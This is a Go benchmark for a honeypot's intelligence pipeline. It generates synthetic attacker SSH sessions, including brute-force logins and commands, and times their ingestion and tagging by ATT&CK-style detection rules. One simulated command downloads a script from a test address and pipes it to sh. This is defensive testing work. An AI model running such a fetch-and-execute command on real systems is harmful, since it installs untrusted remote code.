package run_test

import (
	"context"
	"fmt"
	"log/slog"
	"net/netip"
	"path/filepath"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/decnet/decnet/intel"
	"github.com/decnet/decnet/intel/ingest"
	"github.com/decnet/decnet/intel/profile"
	"github.com/decnet/decnet/intel/sqlite"
	"github.com/decnet/decnet/intel/stage"
	"github.com/decnet/decnet/intel/ttp"
	"github.com/decnet/decnet/schema"
	"github.com/decnet/decnet/schema/event"
	"github.com/decnet/decnet/schema/event/journal"
)

// goal is the least number of events per second, from journal to stored row
// with every stage done.
const goal = 20_000

var benchRules = []schema.Rule{
	{Name: "spray", Technique: "T1110.003", When: `event.kind == "auth.attempt" && !event.success`, By: "event.source", Distinct: "event.username", Threshold: 8, Within: "10m"},
	{Name: "guess", Technique: "T1110.001", When: `event.kind == "auth.attempt" && !event.success`, By: "event.source", Threshold: 10, Within: "5m"},
	{Name: "shell", Technique: "T1059.004", When: `event.kind == "command"`},
	{Name: "scan", Technique: "T1046", When: `event.kind == "connection.opened"`, By: "event.source", Distinct: "event.decky", Threshold: 5, Within: "1m"},
}

// traffic is n events of sessions as attackers make them, at a decky.
func traffic(decky string, seed, n int) []*event.Event {
	at := time.Now().Add(-10 * time.Minute)
	var out []*event.Event
	for s := 0; len(out) < n; s++ {
		source := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 18, byte(s % 7), byte((s*31 + seed) % 250)}), uint16(1024+s%60000))
		session := fmt.Sprintf("%s-%d", decky, s)
		add := func(body event.Body) {
			at = at.Add(time.Millisecond)
			out = append(out, &event.Event{
				ID: event.NewID(at), Time: at, Decky: decky, Service: "ssh", Session: session,
				Source: event.EndpointOf(source), Destination: event.EndpointOf(netip.MustParseAddrPort("192.0.2.10:22")), Body: body,
			})
		}
		add(&event.ConnectionOpened{Transport: "tcp"})
		add(&event.Fingerprint{Method: "hassh", Value: "ec7378c1a92f5a8dde7e8b7a1ddf33d1", Raw: "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none"})
		for i := range 3 {
			add(&event.AuthAttempt{Method: "password", Username: event.Text(fmt.Sprint("user", (s+i)%40)), Secret: event.Text(fmt.Sprint("secret", (s*3+i)%500)),
				SecretKind: "plaintext", Success: i == 2, Client: "SSH-2.0-libssh2_1.11.0"})
		}
		for _, line := range []event.Text{"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp; wget http://198.18.0.1/x.sh -O- | sh"} {
			add(&event.Command{Line: line, Mode: "exec", User: "root", Known: true, Output: "Linux files01 6.1.0-18-amd64 #1 SMP Debian 6.1.76-1 x86_64 GNU/Linux"})
		}
		add(&event.ConnectionClosed{DurationMS: 1200, BytesIn: 3321, BytesOut: 5120, Reason: event.CloseClient})
	}
	return out[:n]
}

func fill(b testing.TB, root string, journals, events int) {
	b.Helper()
	for i := range journals {
		name := fmt.Sprintf("d%d", i)
		w, err := journal.Open(mkdir(b, root, name), journal.Options{MaxBytes: 1 << 40})
		if err != nil {
			b.Fatal(err)
		}
		for chunk := range chunks(traffic("decky."+name, i, events/journals)) {
			if err := w.Append(chunk...); err != nil {
				b.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkIngest measures events per second from journal files to stored rows
// with sessions, attackers, credentials and rules up to date, against a
// yardstick: reading and decoding the same journals alone.
func BenchmarkIngest(b *testing.B) {
	const journals, events = 16, 200_000
	for b.Loop() {
		b.StopTimer()
		dir := b.TempDir()
		root := filepath.Join(dir, "journal")
		fill(b, root, journals, events)
		decode := decodeAll(b, root)
		db, err := sqlite.Open(b.Context(), filepath.Join(dir, "intel.db"))
		if err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		before := cpu(b)
		took := ingestAll(b, db, root, events)
		spent := cpu(b) - before
		b.StopTimer()
		rate := float64(events) / took.Seconds()
		verdict := "OK"
		if rate < goal {
			verdict = "SHORT"
		}
		b.ReportMetric(rate, "events/s")
		b.ReportMetric(took.Seconds()/decode.Seconds(), "x-decode")
		b.ReportMetric(float64(spent.Microseconds())/events, "cpu-us/event")
		b.Logf("%s ingest: %.0f events/s from journal to stored row, all stages done (goal %d); %.1fx the time of decoding alone; %.1f us of processor per event",
			verdict, rate, goal, took.Seconds()/decode.Seconds(), float64(spent.Microseconds())/events)
		if err := db.Close(); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
	}
}

// cpu is the processor time that this process has had: unlike the rate it does
// not depend on what else the machine does.
func cpu(b *testing.B) time.Duration {
	b.Helper()
	var u unix.Rusage
	if err := unix.Getrusage(unix.RUSAGE_SELF, &u); err != nil {
		b.Fatal(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

func decodeAll(b *testing.B, root string) time.Duration {
	b.Helper()
	found, err := ingest.Discover(root, func(string) []string { return nil })
	if err != nil {
		b.Fatal(err)
	}
	began := time.Now()
	for _, j := range found {
		r := journal.NewReader(j.Dir, journal.Position{})
		for {
			records, err := r.Next(512)
			if err != nil {
				b.Fatal(err)
			}
			if len(records) == 0 {
				break
			}
		}
		_ = r.Close()
	}
	return time.Since(began)
}

func ingestAll(b *testing.B, db *sqlite.DB, root string, events int64) time.Duration {
	b.Helper()
	found, err := ingest.Discover(root, func(name string) []string { return []string{"decky." + name} })
	if err != nil {
		b.Fatal(err)
	}
	rules := ttp.New(db, ttp.CompileRule, slog.New(slog.DiscardHandler))
	rules.SetRules(benchRules)
	runner := stage.New(db, db, slog.New(slog.DiscardHandler), profile.New(), rules)
	done := make(chan struct{}, 1)
	runner.Done = func() {
		select {
		case done <- struct{}{}:
		default:
		}
	}
	in := ingest.New(ingest.Config{Log: db, Wake: runner.Wake})
	in.Follow(found)
	ctx, cancel := context.WithCancel(b.Context())
	stopped := make(chan error, 2)
	began := time.Now()
	go func() { stopped <- runner.Run(ctx) }()
	go func() { stopped <- in.Run(ctx) }()
	for {
		<-done
		if in.Stats().Stored < events {
			continue
		}
		head, _, err := db.Head(ctx)
		if err != nil {
			b.Fatal(err)
		}
		at, err := db.Cursor(ctx, "ttp")
		if err != nil {
			b.Fatal(err)
		}
		if at == head {
			break
		}
	}
	took := time.Since(began)
	cancel()
	for range 2 {
		if err := <-stopped; err != nil {
			b.Fatal(err)
		}
	}
	checkBench(b, db, events)
	return took
}

// checkBench makes sure that the measured work was done.
func checkBench(b *testing.B, db *sqlite.DB, events int64) {
	b.Helper()
	status, err := db.Status(b.Context())
	if err != nil || status.Events != events {
		b.Fatalf("%d of %d events stored: %v", status.Events, events, err)
	}
	sessions, err := db.Sessions(b.Context(), intel.Filter{Limit: 1000})
	if err != nil || len(sessions) != 1000 || sessions[0].Commands == 0 {
		b.Fatalf("%d sessions: %v", len(sessions), err)
	}
	for _, rule := range benchRules {
		tags, err := db.Tags(b.Context(), intel.Filter{Rule: rule.Name, Limit: 1})
		if err != nil || len(tags) == 0 {
			b.Fatalf("rule %s did not fire: %v", rule.Name, err)
		}
	}
}
